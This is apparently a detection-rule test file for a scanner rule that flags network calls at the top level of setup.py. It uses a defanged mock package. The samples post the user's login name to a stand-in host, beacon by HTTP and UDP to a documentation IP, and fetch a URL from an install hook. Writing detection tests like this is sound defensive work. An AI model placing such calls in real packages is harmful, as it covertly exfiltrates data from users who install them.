# Test for setup-toplevel-network (defanged: example.invalid / 203.0.113.0/24).
import os
import socket
import urllib.request

import requests
from setuptools import setup
from setuptools.command.install import install

try:
    # ruleid: setup-toplevel-network
    requests.post("https://example.invalid/c", data={"u": os.getlogin()})
except Exception:
    pass


def beacon():
    # ruleid: setup-toplevel-network
    urllib.request.urlopen("http://203.0.113.7/x")
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # ruleid: setup-toplevel-network
    s.sendto(b"hi", ("203.0.113.7", 53))


beacon()

# ok: setup-toplevel-network
here = os.path.abspath(os.path.dirname(__file__))
# ok: setup-toplevel-network
timeout_cls = requests.exceptions.Timeout("not a request")


class Hooked(install):
    def run(self):
        # ok: setup-toplevel-network
        requests.get("https://example.invalid/covered-by-cmdclass-rule")


setup(name="demo", url="https://example.invalid/project", cmdclass={"install": Hooked})
